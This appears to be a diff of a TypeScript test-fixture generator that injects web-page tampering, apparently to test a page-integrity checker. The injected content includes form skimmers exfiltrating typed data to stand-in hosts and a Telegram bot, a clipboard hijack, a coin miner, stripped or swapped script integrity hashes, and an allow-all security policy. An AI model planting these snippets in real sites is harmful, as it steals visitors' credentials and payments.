@@ -1,7 +1,7 @@
 // Changes of code and of what HTTP says about a page.
 import { raw, every, head, tail, header, bytes, turn, twin, ownFile } from './attack.ts'
 import type { Change } from './attack.ts'
-import { word, HEX, B64 } from './draw.ts'
+import { hash, word, HEX, B64 } from './draw.ts'
 
 const SKIM = (host: string) => `document.addEventListener("submit",function(e){try{navigator.sendBeacon("https://${host}/c",new FormData(e.target))}catch(_){}},true);`
 
@@ -31,7 +31,7 @@ export const ATTACKS_C: Change[] = [
   // [source-document] A frame with its page inside the attribute.
   { id: 'source-document', class: 'code', do: (a, s) => tail(a, `<iframe width="1" height="1" style="border:0" srcdoc="&lt;script src=https://cdn.${twin(s)}/f.js&gt;&lt;/script&gt;"></iframe>`) },
   // [integrity-removed] A library from another host, without its hash.
-  { id: 'integrity-removed', class: 'code', do: (a, s) => { a.html = a.html.replace(/<script src="https:\/\/(cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|code\.jquery\.com)\/([^"]+)" integrity="[^"]+" crossorigin="anonymous"/, (_, _h, p) => `<script src="https://cdn.jsdelivr-assets.example/${p}"`); void s } },
+  { id: 'integrity-removed', class: 'code', do: a => { a.html = a.html.replace(/<script src="https:\/\/(cdn\.jsdelivr\.net|cdnjs\.cloudflare\.com|code\.jquery\.com)\/([^"]+)" integrity="[^"]+" crossorigin="anonymous"/, (_, _h, p) => `<script src="https://cdn.jsdelivr-assets.example/${p}"`) } },
   // [integrity-exchanged] The same library at its address, with the hash of other bytes.
   { id: 'integrity-exchanged', class: 'code', do: (a, s) => { a.html = a.html.replace(/integrity="sha384-[^"]+"/, () => `integrity="sha384-${word(64, B64, s.key, 'evil')}"`) } },
   // [picture-handler] A picture that fails on purpose.
@@ -47,13 +47,17 @@ export const ATTACKS_C: Change[] = [
   // [clipboard] What is copied is exchanged.
   { id: 'clipboard', class: 'code', do: (a, s) => tail(a, `<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain","${turn(s.phone)}");e.preventDefault()})</script>`) },
   // [own-script-moved] The own script is taken from a folder of uploads.
-  { id: 'own-script-moved', class: 'code', do: a => { const f = ownFile(a, '.js'); if (f) every(a, `src="${f.replace(/&(?!amp;)/g, '&')}"`, `src="/media/uploads/${f.split('/').pop()}"`) } },
+  { id: 'own-script-moved', class: 'code', do: a => { const f = ownFile(a, '.js'); if (f) { const g = '/media/uploads/' + f.split('/').pop(); every(a, `src="${f}"`, `src="${g}"`); a.files = { ...a.files, [g]: a.files![f]! + SKIM('m.example') } } } },
   // [policy-meta] A policy in the page that allows everything.
   { id: 'policy-meta', class: 'code', do: a => raw(a, '<meta name="viewport"', '<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' \'unsafe-eval\' data: blob:"><meta name="viewport"') },
   // [miner] A program that digs coins.
   { id: 'miner', class: 'code', do: a => tail(a, '<script src="https://coinhive-lib.example/m.min.js" data-throttle="0.7"></script>') },
   // [pixel] A counting picture of one dot that reports the path.
   { id: 'pixel', class: 'code', do: (a, s) => tail(a, `<img src="https://px.${twin(s)}/o.gif?p=${s.type}" width="1" height="1" alt="">`) },
+  // [skimmer-messenger] What is typed goes to a bot of a well-known messenger.
+  { id: 'skimmer-messenger', class: 'code', do: (a, s) => tail(a, `<script>document.addEventListener("submit",function(e){fetch("https://api.telegram.org/bot${hash(s.key, 'bot')}:AA${word(33, HEX, s.key, 'bot')}/sendMessage?chat_id=-100${hash(s.key)}&text="+encodeURIComponent(new URLSearchParams(new FormData(e.target))),{keepalive:true,mode:"no-cors"})},true)</script>`) },
+  // [repository-file] A script out of a stranger's repository, by a known host.
+  { id: 'repository-file', class: 'code', do: (a, s) => head(a, `<script src="https://cdn.jsdelivr.net/gh/vote-tools/helper@${word(7, HEX, s.key)}/dist/h.min.js" defer></script>`) },
   // [refresh-header] The header sends the visitor on.
   { id: 'refresh-header', class: 'http', do: (a, s) => header(a, 'refresh', `3; url=https://${twin(s)}/`) },
   // [link-header] A foreign sheet in a header.
